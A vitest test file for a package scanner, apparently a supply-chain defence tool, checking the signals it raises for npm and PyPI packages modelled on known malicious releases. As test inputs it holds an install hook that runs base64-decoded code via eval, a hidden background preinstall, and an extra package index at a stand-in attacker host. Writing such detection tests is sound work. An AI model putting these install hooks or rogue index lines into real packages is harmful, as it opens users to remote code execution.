/** The one-pass scan of a package's own contents. */
import { SIGNAL_IDS, maxSeverity, scanPackageContents } from '@airlock/static-signals';
import { describe, expect, it } from 'vitest';
import { COA_COMPILE_JS, PY_EXEC_ZLIB_BASE64, W4SP_SETUP_PY } from './fixtures/incident-snippets.js';

describe('scanPackageContents', () => {
  it('npm: scans the install script target as install-time and inline node code too (coa-style)', () => {
    const manifest = {
      name: 'coa',
      version: '2.0.3',
      scripts: { preinstall: 'start /B node compile.js & node compile.js', postinstall: `node -e "eval(atob('Y29uc29sZS5sb2coMSk='))"` },
      dependencies: { q: '^1.1.2', tool: 'git+https://github.com/someone/tool.git' },
    };
    const scan = scanPackageContents({
      ecosystem: 'npm',
      files: [
        { path: 'package/package.json', text: JSON.stringify(manifest, null, 2) },
        { path: 'package/compile.js', text: COA_COMPILE_JS },
        { path: 'package/README.md', text: '# coa' },
        { path: 'package/lib/coa.js', text: "module.exports = require('./cmd');" },
      ],
    });
    expect(scan.installTimeFiles).toEqual(['compile.js']);
    expect(scan.skippedFiles).toBe(1);
    expect(scan.signals.map((s) => [s.id, s.severity, s.evidence.file])).toEqual([
      ['install-script.present', 'low', 'package.json'],
      ['install-script.runs-file', 'info', 'package.json'],
      ['install-script.present', 'low', 'package.json'],
      ['install-script.inline-code', 'medium', 'package.json'],
      ['obfuscation.exec-decoded', 'high', 'package.json#scripts.postinstall.js'],
      ['dependency-source.git', 'medium', 'package.json'],
      ['obfuscation.hex-identifiers', 'high', 'compile.js'],
    ]);
    expect(maxSeverity(scan.signals)).toBe('high');
  });

  it('pypi: setup.py, requirements and module sources', () => {
    const scan = scanPackageContents({
      ecosystem: 'pypi',
      files: [
        { path: 'setup.py', text: W4SP_SETUP_PY },
        { path: 'requirements.txt', text: '--extra-index-url https://pypi.evil.example/simple\nrequests\n' },
        { path: 'pkg/__init__.py', text: PY_EXEC_ZLIB_BASE64 },
        { path: 'pkg/util.py', text: 'def add(a, b):\n    return a + b\n' },
      ],
    });
    expect(scan.installTimeFiles).toEqual(['setup.py']);
    expect(scan.signals.map((s) => [s.id, s.severity, s.evidence.file])).toEqual([
      ['install-script.setup-py', 'info', 'setup.py'],
      ['install-script.custom-command', 'medium', 'setup.py'],
      ['dependency-source.extra-index', 'medium', 'requirements.txt'],
      ['obfuscation.long-base64-string', 'medium', 'setup.py'],
      ['obfuscation.exec-decoded', 'high', 'setup.py'],
      ['obfuscation.long-base64-string', 'low', 'pkg/__init__.py'],
      ['obfuscation.compressed-payload', 'medium', 'pkg/__init__.py'],
      ['obfuscation.exec-decoded', 'high', 'pkg/__init__.py'],
    ]);
  });

  it('a plain package yields nothing', () => {
    const scan = scanPackageContents({
      ecosystem: 'npm',
      files: [
        { path: 'package.json', text: '{"name":"plain","version":"1.0.0","main":"index.js","dependencies":{"ms":"^2.1.3"}}' },
        { path: 'index.js', text: "const ms = require('ms');\nmodule.exports = (t) => ms(t);\n" },
      ],
    });
    expect(scan).toEqual({ signals: [], installTimeFiles: [], skippedFiles: 0 });
    expect(maxSeverity(scan.signals)).toBeNull();
  });

  it('survives an unparseable package.json', () => {
    expect(scanPackageContents({ ecosystem: 'npm', files: [{ path: 'package.json', text: '{nope' }] }).signals).toEqual([]);
  });

  it('only emits declared signal ids', () => {
    expect(SIGNAL_IDS.length).toBe(new Set(SIGNAL_IDS).size);
    expect(SIGNAL_IDS.length).toBe(43);
  });
});
